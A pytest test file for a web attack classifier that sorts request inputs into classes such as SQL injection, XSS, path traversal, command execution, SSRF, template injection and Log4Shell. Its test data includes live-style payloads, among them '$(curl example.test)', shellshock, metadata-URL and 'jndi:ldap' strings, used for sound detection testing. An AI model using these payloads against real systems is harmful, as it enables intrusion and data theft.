"""Payloads by class, as they come and in disguise; what looks like them and is ordinary; bounds."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensor.core.keyed import KeyedHash
from sensor.describe.attacks.classes import Attack, AttackClass, Part, Request
from sensor.describe.attacks.classifier import VALUES_MAX, AttackClassifier, decode, list_values
from sensor.describe.attacks.core_rules import load_core_rules, load_database_errors
from sensor.describe.attacks.matching import ExpressionSet
from sensor.describe.attacks.prose import TEXT_MAX

CLASSIFIER = AttackClassifier(KeyedHash(1, bytes(16)).compute)


def classify(query: str = "", path: str = "/", **parts: object) -> AttackClass | None:
    found = CLASSIFIER.classify(Request(path, query, **parts))  # type: ignore[arg-type]
    return found.attack_class if found is not None else None


@pytest.mark.parametrize(
    ("query", "kind"),
    [
        ("id=1'+OR+'1'='1", AttackClass.SQLI),
        ("id=1%2527%2520or%25201%253D1--%2520-", AttackClass.SQLI),
        ("id=-1/**/uNiOn/*!50000all*/select/**/1,2,3", AttackClass.SQLI),
        ("id=1;waitfor delay '0:0:5'--", AttackClass.SQLI),
        ("q=<script>alert(1)</script>", AttackClass.XSS),
        ("q=%26lt%3Bimg+src%3Dx+onerror%3Dalert(1)%26gt%3B", AttackClass.XSS),
        ("q=\\u003cscript\\u003ealert(1)", AttackClass.XSS),
        ("file=../../../../etc/passwd", AttackClass.TRAVERSAL),
        ("file=..%c0%af..%c0%afwindows%c0%afwin.ini", AttackClass.TRAVERSAL),
        ("host=127.0.0.1;cat+/etc/hosts", AttackClass.RCE),
        ("x=$(curl+example.test)", AttackClass.RCE),
        ("url=http://169.254.169.254/latest/meta-data/", AttackClass.SSRF),
        ("url=gopher://h:70/_x", AttackClass.SSRF),
        ("name={{7*7}}", AttackClass.SSTI),
        ("name={{config.__class__}}", AttackClass.SSTI),
        ("user[$ne]=x", AttackClass.NOSQL),
        ('filter={"user":{"$gt":""}}', AttackClass.NOSQL),
        ("user=*)(uid=*))(|(uid=*", AttackClass.LDAP),
        ("x=${jndi:ldap://h/a}", AttackClass.LOG4SHELL),
        ("x=${${lower:j}ndi:ldap://h/a}", AttackClass.LOG4SHELL),
        ("next=/%0d%0aSet-Cookie:+a=b", AttackClass.SPLITTING),
        ("doc=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///x'>]>", AttackClass.XXE),
        ("host=;who", AttackClass.RCE),
        ("x=$[]", AttackClass.RCE),
        ("x=while(!undefined)", AttackClass.RCE),
        ("x=n$_one+/et$_x/pas$_wd", AttackClass.RCE),
        ("id='or+homer+9", AttackClass.SQLI),
        ("id='select+password", AttackClass.SQLI),
        ("and+'5'id=1", AttackClass.SQLI),
        ("id=`+<+0)+AND+`", AttackClass.SQLI),
        ("id=%22:[%22a", AttackClass.NOSQL),
        ("x=echo+1{/php}", AttackClass.SSTI),
        ("x=<%25%3D+if+True+%25>49<%25+endif+%25>", AttackClass.SSTI),
        ("x=.cookie;expires=1", AttackClass.FIXATION),
        ("x=a%0Anext=more", AttackClass.SPLITTING),
        ("file=C:/Windows/system32/unattend.xml", AttackClass.TRAVERSAL),
    ],
)
def test_each_class_is_found_plain_and_in_disguise(query: str, kind: AttackClass) -> None:
    assert classify(query) is kind


@pytest.mark.parametrize(
    "query",
    [
        "q=rock+%26+roll&page=2&sort=-created_at",
        "name=O'Brien&city=Coeur+d'Alene",
        "q=select+a+gift+for+her&or=1",
        "next=https://shop.example/cart?id=7&utm_source=mail",
        "href=javascript:;&onclick=",
        'filter={"status":"open","created":{"from":"2026-01-01"},"text":"this or that"}',
        "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln--x_y-",
        "range=1..10&path=a/b/c.txt&ids[]=1&ids[]=2",
        "expr=a+%3E+b&price=%2412.50&note=50%25+off!",
        "fields=user(name,id),items(count)",
        "date=2026-11-25T19:00:00%2B01:00",
        "template=Dear+<%25%3Dname%25>",
        "program=C:\\Windows\\System32\\notepad.exe",
        "q=sodium_add_to_recipe(salt)",
        "q=`!1",
        "q='select+one'",
    ],
)
def test_ordinary_queries_are_no_attacks(query: str) -> None:
    assert classify(query) is None


def test_header_values_and_forms_are_looked_at() -> None:
    assert classify("", headers=(("x-trace", "() { :; }; /bin/bash -c id"),)) is AttackClass.RCE
    assert classify("", headers=(("accept", "() { :; }; /bin/bash -c id"),)) is None
    assert classify("", body="a=1&b=1'+or+'1'%3D'1") is AttackClass.SQLI


def test_many_ranges_of_a_document_are_more_than_a_viewer_asks_for() -> None:
    ranges = "bytes=" + ", ".join(f"{n}0-{n}1" for n in range(70))
    assert classify("", "/a.pdf", headers=(("range", ranges),)) is AttackClass.PROTOCOL


def test_an_extension_that_is_broken_up_is_no_name_of_a_file() -> None:
    assert classify("", headers=(("x-file-name", "1.j\\s\\p"),)) is AttackClass.TRAVERSAL
    assert classify("", headers=(("x-file-name", "C:\\temp\\sess_abcdef123456"),)) is AttackClass.RCE
    assert classify("", headers=(("x-file-name", "C:\\v1.2\\summary.txt"),)) is None


def test_half_a_pair_of_surrogates_is_text_like_any_other() -> None:
    assert classify("q=\\ud83d+x") is None
    broken = '{"a": "\\ud83d %s"}'
    assert classify("", body=broken % "x", content_type="application/json") is None
    assert classify("", body=broken % "' or 1=1--", content_type="application/json") is AttackClass.SQLI


def test_the_payload_is_told_by_its_hash_alone() -> None:
    first, again, other = (
        CLASSIFIER.classify(Request("/", f"id={value}"))
        for value in ("1'%20or%201=1--+", "1'+or+1=1--+", "2'+or+1=1--+")
    )
    assert isinstance(first, Attack) and first == again
    assert other is not None and other.payload_hash != first.payload_hash != 0
    assert "1=1" not in repr(first)


@given(st.text(max_size=400), st.text(max_size=400))
def test_nothing_raises(path: str, query: str) -> None:
    for kind in ("", "application/json", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded"):
        CLASSIFIER.classify(Request(path, query, query, (("cookie", query), ("referer", path)), path, kind))
    assert isinstance(decode(query), str)


def test_what_the_expressions_are_asked_of_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """RE2 takes time in proportion to it."""
    asked: list[int] = []
    match = ExpressionSet.match
    monkeypatch.setattr(ExpressionSet, "match", lambda own, text: (asked.append(len(text)), match(own, text))[1])
    for query in ("(" * 100_000 + "' or " * 20_000, '{"a":' * 20_000, '["' + "'" * 50_000 + '"]'):
        asked.clear()
        CLASSIFIER.classify(Request("/", "q=" + query))
        assert len(asked) < 40
        assert max(asked) <= TEXT_MAX
    assert len(list_values(Request("/", "&".join(f"a{n}={n}" for n in range(10_000))))) <= VALUES_MAX


def test_core_rules_are_read_where_they_are_and_none_where_not(tmp_path: Path) -> None:
    assert load_core_rules(tmp_path / "nothing") == load_database_errors(tmp_path / "nothing") == ()
    (tmp_path / "RESPONSE-951-A.conf").write_text(
        'SecRule TX:x "@eq 1" "id:951999"\n    SecRule RESPONSE_BODY "@rx (?i:zz \\"error)" \\\n        "capture"\n'
    )
    assert load_database_errors(tmp_path) == ('(?i:zz "error)',)
    (tmp_path / "lfi-os-files.data").write_text("# files\netc/zz.conf\n")
    (tmp_path / "restricted-files.data").write_text("/.zzrc\n")
    (tmp_path / "php-function-names-933151.data").write_text("zz_dump\n")
    (tmp_path / "REQUEST-942-A.conf").write_text(
        'SecRule ARGS|ARGS_NAMES "@rx (?i)zz\\"select" \\\n    "id:942999,\\\n    tag:\'paranoia-level/1\'"\n\n'
        'SecRule ARGS "@rx loose" \\\n    "id:942440,\\\n    tag:\'paranoia-level/2\'"\n\n'
        'SecRule ARGS "@rx strict" \\\n    "id:942998,\\\n    tag:\'paranoia-level/4\'"\n\n'
        'SecRule ARGS "@rx (?!x)unsupported" \\\n    "id:942997,\\\n    tag:\'paranoia-level/1\'"\n\n'
        'SecRule FILES "@rx [.]zz$" \\\n    "id:933999,\\\n    tag:\'paranoia-level/1\'"\n\n'
        'SecRule ARGS "@rx zzf(?://.*|#.*)*\\(" \\\n    "id:933998,\\\n    tag:\'paranoia-level/1\'"\n\n'
        'SecRule REQUEST_HEADERS:Host "@rx zz" \\\n    "id:920999,\\\n    tag:\'paranoia-level/1\'"\n'
    )
    rules = load_core_rules(tmp_path)
    assert [(rule.name, rule.attack_class, rule.part) for rule in rules] == [
        ("942999", AttackClass.SQLI, None),
        ("942997", AttackClass.SQLI, None),
        ("933999", AttackClass.RCE, Part.FILE),
        ("933998", AttackClass.RCE, None),
        ("930120", AttackClass.TRAVERSAL, None),
        ("930130", AttackClass.PROBING, Part.PATH),
        ("933151", AttackClass.RCE, None),
    ]
    classifier = AttackClassifier(KeyedHash(1, bytes(16)).compute, rules)
    assert classifier.left_out == ["942997"]
    for request, kind in (
        (Request("/", "q=ZZ%22select"), AttackClass.SQLI),
        (Request("/.zzrc"), AttackClass.PROBING),
        (Request("/", "q=/.zzrc"), None),  # A file's name is asked for in the path.
        (Request("/", "q=zz_dump+(1)"), AttackClass.RCE),
        (Request("/", "q=zz_dump"), None),
        (Request("/", "q=zzf%23x%0A("), AttackClass.RCE),
        (Request("/", "q=zzf%23x("), None),  # The comment holds the rest of the line.
        (Request("/", "q=a.zz"), None),
        (Request(headers=(("x-file-name", "a.zz"),)), AttackClass.RCE),
    ):
        found = classifier.classify(request)
        assert (found.attack_class if found is not None else None) is kind


@pytest.mark.parametrize(
    "agent",
    [
        "PostmanRuntime/7.40.0",
        "Docker-Client/27.3.1 (linux)",
        "docker/27.3.1 go/go1.22.7 kernel/6.8.0 os/linux arch/amd64 UpstreamClient(Docker-Client/27.3.1 \\(linux\\))",
        "Debian APT-HTTP/1.3 (2.9.8)",
        "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
        "grpc-python/1.66.0 grpc-c/43.0.0 (linux; chttp2)",
        "aws-cli/2.15.0 Python/3.11.6 Linux/6.1.0 exe/x86_64.debian.12",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ],
)
def test_honest_clients_names_are_no_attacks(agent: str) -> None:
    request = Request(headers=(("user-agent", agent),))
    assert CLASSIFIER.classify(request) is None
    assert AttackClassifier(KeyedHash(1, bytes(16)).compute, load_core_rules()).classify(request) is None


@pytest.mark.parametrize("agent", ["x; docker exec a sh", "a/1.0 () { :;}; /bin/bash -c id", "b/2 ${jndi:ldap://h/a}"])
def test_attacks_in_clients_names_still_are(agent: str) -> None:
    assert CLASSIFIER.classify(Request(headers=(("user-agent", agent),))) is not None


def test_rules_that_ask_for_a_second_one_beside_are_left_out(tmp_path: Path) -> None:
    """Half of a chain accuses ordinary words: `runtime` of Java's was an attack by itself."""
    rule = 'SecRule ARGS \\\n    "@rx %s" \\\n    "id:%d,\\\n    phase:2,\\\n    tag:\'paranoia-level/1\'%s"\n'
    text = rule % ("alone", 944001, "") + rule % ("runtime", 944002, ",\\\n    chain") + '    SecRule ARGS "@rx x"\n'
    (tmp_path / "REQUEST-944-X.conf").write_text(text)
    assert [rule.name for rule in load_core_rules(tmp_path)] == ["944001"]
